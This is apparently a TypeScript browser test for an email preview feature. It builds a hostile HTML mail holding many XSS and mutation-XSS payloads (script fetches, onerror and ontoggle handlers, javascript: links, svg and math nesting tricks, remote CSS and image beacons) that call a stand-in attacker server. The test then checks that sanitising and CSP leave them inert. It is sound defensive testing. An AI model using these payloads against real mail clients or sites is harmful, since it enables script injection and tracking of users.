// A mail that would like to be more than read, shown by a real browser.

import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { CHROMIUM, openBrowser } from '../support/browser.ts';
import { liveMailbox, MISSING_SWAKS, mailOf, UNLESS_SWAKS } from '../support/live-mailbox.ts';
import { LIVE_MS_MAX } from '../support/time-bounds.ts';

const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

/** Everything that is known to fetch, run or send something; `evil`: where it would go. */
const hostile = (evil: string) => `<html><head><base href="${evil}/base/"><title>x</title>
<link rel="stylesheet" href="${evil}/style.css"><link rel="prefetch" href="${evil}/prefetch"><link rel="preload" as="image" href="${evil}/preload">
<meta http-equiv="refresh" content="0;url=${evil}/refresh"><style>@import "${evil}/import.css"; body{background:url(${evil}/style.png)}</style>
<script src="${evil}/script.js"></script><script>fetch('${evil}/fetch'); document.title='owned'</script></head>
<body onload="fetch('${evil}/onload')" background="${evil}/background.png">
<p id="shown">Hello</p><p style="display:none">Send me your keys.</p>
<img src="${evil}/img.png"><img src="x" onerror="fetch('${evil}/onerror')"><img srcset="${evil}/srcset.png 1x"><img src="cid:pixel">
<picture><source srcset="${evil}/source.png"><img></picture><svg><image href="${evil}/svg.png"/><script>fetch('${evil}/svg')</script></svg>
<svg><style><img src=x onerror="fetch('${evil}/mxss')"></style></svg><math><mtext><table><mglyph><style><img src=x onerror="fetch('${evil}/math')">
</style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=fetch('${evil}/noscript')>"></noscript>
<iframe src="${evil}/iframe"></iframe><iframe srcdoc="<script>fetch('${evil}/srcdoc')</script>"></iframe><object data="${evil}/object"></object>
<embed src="${evil}/embed"><video src="${evil}/video" poster="${evil}/poster" autoplay></video><audio src="${evil}/audio" autoplay></audio>
<input type="image" src="${evil}/input.png" autofocus onfocus="fetch('${evil}/focus')"><form action="${evil}/form"><button autofocus>Go</button></form>
<table background="${evil}/table.png"><tr><td style="background:url(${evil}/td.png)">x</td></tr></table>
<a id="link" href="javascript:fetch('${evil}/link')" ping="${evil}/ping">click</a><details open ontoggle="fetch('${evil}/toggle')">x</details>
<marquee onstart="fetch('${evil}/marquee')">x</marquee><template><img src="${evil}/template.png"></template></body></html>`;

/** A server that notes every request. */
async function startEvil() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(String(request.url));
    response.setHeader('access-control-allow-origin', '*').end();
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  return { asked, url: `http://127.0.0.1:${port}`, [Symbol.asyncDispose]: async () => void server.close() };
}

/** The title and text of a page, and how wide the picture is that came with the mail, once all that it would fetch was fetched. */
async function shownBy(browser: Browser, show: (page: Awaited<ReturnType<Browser['newPage']>>) => Promise<unknown>) {
  const page = await browser.newPage();
  await show(page);
  await page.waitForLoadState('networkidle');
  await page.locator('#link, a').first().click({ force: true });
  await page.waitForLoadState('networkidle');
  const [title, text] = [await page.title(), await page.locator('body').textContent()];
  const pictures = await page
    .locator('img')
    .evaluateAll((all) => all.map((one) => Number(Reflect.get(one, 'naturalWidth'))));
  await page.close();
  return { title, text, pictures };
}

const missing = CHROMIUM === undefined ? ': skipped, Chromium is not installed' : UNLESS_SWAKS;

describe(`the preview of a hostile mail${missing}`, () => {
  it.skipIf(CHROMIUM === undefined || MISSING_SWAKS !== undefined)(
    'asks nobody, runs nothing, and shows what there is to read',
    async () => {
      await using evil = await startEvil();
      await using mailbox = await liveMailbox();
      const { inboxId } = await mailbox.client.inboxes.create({ username: 'support' });
      const html = ['--b', 'Content-Type: text/html; charset=utf-8', '', hostile(evil.url)];
      const pixel = [
        '--b',
        'Content-Type: image/png',
        'Content-ID: <pixel>',
        'Content-Transfer-Encoding: base64',
        '',
        PIXEL,
        '--b--',
      ];
      const related = ['Content-Type: multipart/related; boundary=b', '', ...html, ...pixel];
      await mailbox.send(inboxId, mailOf('<1@y.com>', 'Hostile', ...related));

      const path = `/api/mailbox/inboxes/${inboxId}/messages/${encodeURIComponent('<1@y.com>')}/preview`;
      const authorization = `Bearer ${mailbox.apiKey}`;
      const answer = await fetch(mailbox.host.url + path, { headers: { authorization } });
      expect(answer.headers.get('content-security-policy')).toContain("sandbox; default-src 'none'; img-src data:");
      const page = await answer.text();
      const browser = await openBrowser();
      try {
        const context = await browser.newContext({ extraHTTPHeaders: { authorization } });
        const shown = await shownBy(browser, (at) =>
          at.setExtraHTTPHeaders({ authorization }).then(() => at.goto(mailbox.host.url + path)),
        );
        await context.close();
        expect(shown).toMatchObject({ title: 'Hostile', text: expect.stringContaining('Hello') });
        expect(shown.text).not.toContain('keys');
        expect(
          shown.pictures.filter((width) => width > 0),
          'the one that came with the mail',
        ).toEqual([1]);
        expect(evil.asked).toEqual([]);

        // What is sanitised is harmless by itself, too: here no policy helps it.
        const bare = page.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
        expect(bare).not.toBe(page);
        expect(await shownBy(browser, (at) => at.setContent(bare))).toEqual(shown);
        expect(evil.asked).toEqual([]);
      } finally {
        await browser.close();
      }
    },
    LIVE_MS_MAX,
  );
});
